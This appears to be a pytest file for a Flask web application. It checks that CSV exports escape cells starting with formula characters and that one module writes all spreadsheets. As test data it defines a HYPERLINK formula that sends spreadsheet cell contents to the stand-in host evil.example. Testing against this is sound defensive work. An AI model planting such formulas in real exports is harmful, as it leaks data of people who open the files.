"""What is taken away as a table is read by a spreadsheet: no cell of it may be computed."""

import csv
import io
import re
from pathlib import Path

import pytest
from flask import Flask
from sqlalchemy import update

from models.organization import Programme
from models.people import User
from models.session import transaction
from tests.canaries import Planted, attempts, plant, send
from tests.conftest import ClientOf
from tests.factories import World

ROOT = Path(__file__).resolve().parents[2]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTED = tuple(f"'{start}" for start in STARTS)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"cliquez")'


@pytest.fixture
def planted(world: World) -> Planted:
    """The world, in which every name begins like a formula."""
    with transaction() as session:
        planted = plant(session, world)
        for number, user in enumerate(world.people.values()):
            name = STARTS[number % len(STARTS)] + FORMULA
            session.execute(update(User).where(User.id == user.id).values(name=name, title=name))
        session.execute(update(Programme).values(name=FORMULA))
    return planted


def cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";") for cell in row
    ]


@pytest.mark.parametrize("name", ["manager", "tutor", "alice", "observer"])
def test_no_table_that_is_taken_away_holds_a_formula(
    planted: Planted, app: Flask, client_of: ClientOf, name: str
) -> None:
    client = client_of(planted.world.people[name])
    tables = {}
    for attempt in attempts(app, planted):
        if attempt.path not in ("/sign-out", "/account/erase"):
            answer = send(client, attempt)
            if answer.mimetype == "text/csv":
                tables[attempt.rule.endpoint] = answer.get_data(as_text=True)
                assert answer.headers["Content-Disposition"].startswith("attachment; ")
    if name == "manager":
        assert set(tables) == {
            *("accompaniment.download", "assessments.download", "audit.export", "programmes.import_model")
        }
        everything = client_of(planted.world.manager).post("/audit/export").get_data(as_text=True)
        tables["everything"] = everything
        assert any(cell.startswith(QUOTED) for cell in cells(everything)), everything
    assert [cell for text in tables.values() for cell in cells(text) if cell.startswith(STARTS)] == []


def test_tables_are_written_in_one_place() -> None:
    """So that no other export forgets the apostrophe."""
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("models", "workspace", "realtime")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if re.search(r"csv\.(writer|DictWriter)|text/tab-separated|spreadsheetml", path.read_text())
    ]
    assert writers == ["workspace/services/spreadsheet.py"]
